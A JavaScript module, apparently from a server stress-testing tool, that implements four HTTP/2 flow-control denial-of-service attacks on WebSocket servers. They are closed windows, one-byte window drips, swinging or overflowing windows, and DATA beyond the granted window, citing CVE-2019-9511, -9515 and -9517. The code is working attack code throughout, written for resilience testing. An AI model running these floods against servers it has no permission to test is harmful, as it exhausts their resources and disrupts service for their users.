/** Windows of HTTP/2 that are closed, opened by a byte at a time, overflowed, or ignored. */
import { frame, opcode } from "../wire/frames.js";
import { pause } from "../wire/http1.js";
import {
  connectFrame,
  FULL_FRAME,
  flag,
  frameType,
  http2Frame,
  setting,
  settingsFrame,
  uint32,
} from "../wire/http2.js";
import { describeTally, http2Crowd } from "../wire/http2-crowd.js";

/** @typedef {import("../attack.js").Attack} Attack */
/** @typedef {import("../attack.js").AttackContext} AttackContext */
/** @typedef {import("../wire/http2.js").Http2Peer} Http2Peer */

const CLOSED = /** @type {const} */ ([[setting.initialWindowSize, 0]]);
/** The largest window (RFC 9113 §6.9.1). */
const MAX_WINDOW = 2 ** 31 - 1;
/** What a peer may send unasked on one stream and on the whole connection (§6.9.2). */
const UNASKED_BYTES = 65_535;

/** @param {number} streamId
 * @param {number} increment */
const windowUpdate = (streamId, increment) =>
  http2Frame(frameType.windowUpdate, flag.none, streamId, uint32(increment));

/** @param {number} count */
const streamIds = (count) => Array.from({ length: count }, (_, index) => 2 * index + 1);

/** Opens streams whose echoes together are as large as may be sent unasked.
 * @param {AttackContext} context
 * @param {number} count
 * @returns {(peer: Http2Peer) => Promise<void>} */
function askForEchoes({ target, signal }, count) {
  const ids = streamIds(count);
  const message = frame({ opcode: opcode.binary, payload: Buffer.alloc(Math.floor(UNASKED_BYTES / count) - 20) });
  return async (peer) => {
    await peer.write(Buffer.concat(ids.map((id) => connectFrame(target, id))), signal);
    await peer.until(() => peer.answers === count, signal);
    for (const id of ids)
      for (let from = 0; from < message.length; from += FULL_FRAME)
        await peer.write(http2Frame(frameType.data, flag.none, id, message.subarray(from, from + FULL_FRAME)), signal);
  };
}

/** @type {Attack} */
export const closedWindow = {
  name: "HTTP/2 WebSockets that ask for echoes and give no window for them",
  sources: ["CVE-2019-9517", "budget: outbound queue"],
  ...{ over: ["2.0"], connections: 20 },
  async run(context) {
    const { signal } = context;
    const begin = askForEchoes(context, 50);
    const tally = await http2Crowd(context, (peer) => peer.over(signal), { begin, settings: CLOSED });
    return { seen: `${tally.dataBytes} bytes of DATA; ${describeTally(tally)}` };
  },
};

/** @type {Attack} */
export const windowDrip = {
  name: "HTTP/2 windows opened by one byte at a time, for an echo of 64 KB",
  sources: ["CVE-2019-9511"],
  ...{ over: ["2.0"], connections: 20 },
  async run(context) {
    const { signal } = context;
    const drip = Buffer.concat(streamIds(4).map((id) => windowUpdate(id, 1)));
    const play = async (/** @type {Http2Peer} */ peer) => {
      while (await peer.write(drip, signal)) await pause(1, signal);
    };
    const tally = await http2Crowd(context, play, { begin: askForEchoes(context, 4), settings: CLOSED });
    return { seen: `${tally.dataBytes} bytes of DATA, each asked for; ${describeTally(tally)}` };
  },
};

/** @type {Attack} */
export const swingingWindow = {
  name: "HTTP/2 windows that swing between 0 and 2^31 - 1, or overflow it",
  sources: ["RFC 9113 §6.9.2", "CVE-2019-9515"],
  ...{ over: ["2.0"], connections: 20 },
  async run(context) {
    const { signal } = context;
    const swing = Buffer.concat([
      settingsFrame([[setting.initialWindowSize, MAX_WINDOW]]),
      settingsFrame([[setting.initialWindowSize, 0]]),
    ]);
    const play = async (/** @type {Http2Peer} */ peer, /** @type {number} */ index) => {
      const place = index % 4;
      if (place === 0) await peer.write(windowUpdate(0, MAX_WINDOW), signal);
      if (place === 1) await peer.write(Buffer.concat([windowUpdate(1, MAX_WINDOW), swing]), signal);
      while (await peer.write(swing, signal)) await pause(1, signal);
    };
    const tally = await http2Crowd(context, play, { again: true, begin: askForEchoes(context, 20), settings: CLOSED });
    return { seen: describeTally(tally) };
  },
};

/** @type {Attack} */
export const ignoredWindow = {
  name: "HTTP/2 DATA beyond the window that the server gives",
  sources: ["RFC 9113 §6.9.1", "budget: incomplete messages"],
  ...{ over: ["2.0"], connections: 20 },
  async run(context) {
    const { signal, target } = context;
    // A message of 1 TiB, which nobody has to wait for the end of
    const start = Buffer.from([0x82, 0xff, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    const part = http2Frame(frameType.data, flag.none, 1, Buffer.alloc(FULL_FRAME));
    const play = async (/** @type {Http2Peer} */ peer, /** @type {number} */ index) => {
      if (index % 2 === 0) await peer.write(http2Frame(frameType.data, flag.none, 1, start), signal);
      while (await peer.write(part, signal)) await new Promise(setImmediate);
    };
    const tally = await http2Crowd(context, play, { again: true, begin: (peer) => peer.connect(target, 1, signal) });
    return { seen: describeTally(tally) };
  },
};
